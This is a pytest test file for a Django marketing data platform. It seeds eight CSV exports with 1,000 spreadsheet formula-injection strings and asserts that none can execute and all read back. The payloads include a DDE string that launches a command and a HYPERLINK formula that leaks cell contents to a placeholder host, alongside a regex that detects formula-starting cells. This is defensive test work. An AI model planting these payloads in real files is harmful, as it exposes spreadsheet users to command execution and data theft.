"""Proof S4: a thousand hostile cells in each file that a spreadsheet may open. None runs, each can be read back."""

import csv
import io
import re
from collections.abc import Callable
from itertools import product
from pathlib import Path

import pytest
from django.http import StreamingHttpResponse
from django.test import Client
from django.urls import reverse

from campaigns.models import Campaign, OfferCode
from cdp.common.csv_out import csv_lines, plain_cell
from cdp.profiles.models import Profile
from segments.models import MembershipChange, Segment
from tests.campaigns.offers.making import an_offer
from tests.campaigns.results.making import SENT, a_campaign, a_mail
from tests.cast import Cast
from tests.factories import NOW
from tests.segments.laid import NOBODY, a_segment, people

ROOT = Path(__file__).resolve().parents[2]
STARTS = ["=", "+", "-", "@", "\t", "\r", " =", "'=", "''+", "＝"]
VERBS = ["1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://x.example/?"&A1)', "SUM(A1:A9)", 'x"&B2', "a,b", "a;=1+1", "-2"]
HOSTILE = [f"{start}{verb}{n}" for n, start, verb in product(range(13), STARTS, VERBS)][:1_000]
"""A thousand, each another; a number at the end keeps them apart."""
RUNS = re.compile(r"[\s\ufeff]*[=+@＝＋－＠-]|[\t\r\n]")
NUMBER = re.compile(r"[+-]?\d+([.,]\d+)*")

Export = Callable[[], str]


def a_crowd() -> list[int]:
    ids = people(len(HOSTILE))
    made = Profile.objects.in_bulk(ids)
    for profile_id, text in zip(ids, HOSTILE, strict=True):
        made[profile_id].traits = {"name": text, "said": text}
    Profile.objects.bulk_update(made.values(), ["traits"])
    return ids


def people_list() -> str:
    a_crowd()
    return reverse("profiles:export")


def people_by_segment() -> str:
    return reverse("segments:export_people") + f"?in={a_segment('S', a_crowd()).pk}"


def people_of_a_segment() -> str:
    return reverse("segments:export_csv", args=[a_segment("S", a_crowd()).pk]) + "?traits=said"


def changes_of_a_segment() -> str:
    segment = a_segment("S", ids := a_crowd())
    MembershipChange.objects.bulk_create(
        MembershipChange(segment_id=segment.pk, profile_id=pk, kind="entered", cause="event", at=NOW) for pk in ids
    )
    return reverse("segments:export_changes", args=[segment.pk])


def segments_list() -> str:
    Segment.objects.bulk_create(
        Segment(name=text, rule=NOBODY, created_at=NOW, changed_at=NOW, as_of=NOW) for text in HOSTILE
    )
    return reverse("segments:export_list")


def recipients() -> str:
    campaign = a_campaign()
    for profile_id, text in zip(people(len(HOSTILE)), HOSTILE, strict=True):
        a_mail(campaign, profile_id=profile_id, address=text)
    return reverse("campaigns:results_people_csv", args=[campaign.pk])


def results() -> str:
    (profile_id,) = people(1)
    first = a_campaign()
    made = [
        Campaign(name=text, template=first.template, state="sent", sender=first.sender, created_at=NOW)
        for text in HOSTILE
    ]
    for campaign in Campaign.objects.bulk_create(made):
        a_mail(campaign, profile_id=profile_id)
    return reverse("campaigns:all_results_csv") + f"?first={SENT.date()}&last={NOW.date()}"


def codes() -> str:
    offer = an_offer()
    OfferCode.objects.bulk_create(
        OfferCode(offer=offer, code=text[:60], is_own=True, delivery=f"00000000-0000-0000-0000-{n:012}", given_at=NOW)
        for n, text in enumerate(HOSTILE)
    )
    return reverse("campaigns:offer_export", args=[offer.pk])


EXPORTS: dict[Export, int] = {
    people_list: 1_000,
    people_by_segment: 1_000,
    people_of_a_segment: 2_000,
    changes_of_a_segment: 1_000,
    segments_list: 1_000,
    recipients: 1_000,
    results: 1_000,
    codes: 1_000,
}
"""Each with how many of its cells hold such a text."""


def cells(client: Client, url: str) -> list[str]:
    answer = client.get(url)
    assert answer.status_code == 200
    body = b"".join(answer.streaming_content) if isinstance(answer, StreamingHttpResponse) else answer.content
    return [cell for row in csv.reader(io.StringIO(body.decode(), newline="")) for cell in row]


@pytest.mark.parametrize("export", EXPORTS, ids=lambda one: one.__name__)
def test_no_cell_of_an_export_runs_and_each_can_be_read_back(cast: Cast, export: Export) -> None:
    found = cells(cast.client("ada"), export())
    assert [cell for cell in found if RUNS.match(cell) and not NUMBER.fullmatch(cell)] == []
    wanted = {text.strip() for text in HOSTILE}
    back = [one for one in map(plain_cell, found) if one.strip() in wanted]
    assert (len(back), {one.strip() for one in back}) == (EXPORTS[export], wanted)


def test_nothing_else_writes_cells() -> None:
    """The files of an offer's and a list's refused lines, and of an import's, are written by it, too."""
    writers = [
        str(path.relative_to(ROOT))
        for folder in ("cdp", "identity", "segments", "scoring", "campaigns")
        for path in (ROOT / folder).rglob("*.py")
        if re.search(r"csv\.(Dict)?[wW]riter\(", text := path.read_text()) and "safe_cell" not in text
    ]
    # `manage.py link` repeats the ids of the files it was given, which programs join on; a file that somebody was
    # erased from stays as it was written in all else.
    assert sorted(writers) == ["cdp/connectors/files_about.py", "identity/link_files.py"]
    assert list(csv_lines([HOSTILE[:1]])) == [f"'{HOSTILE[0]}\r\n"]
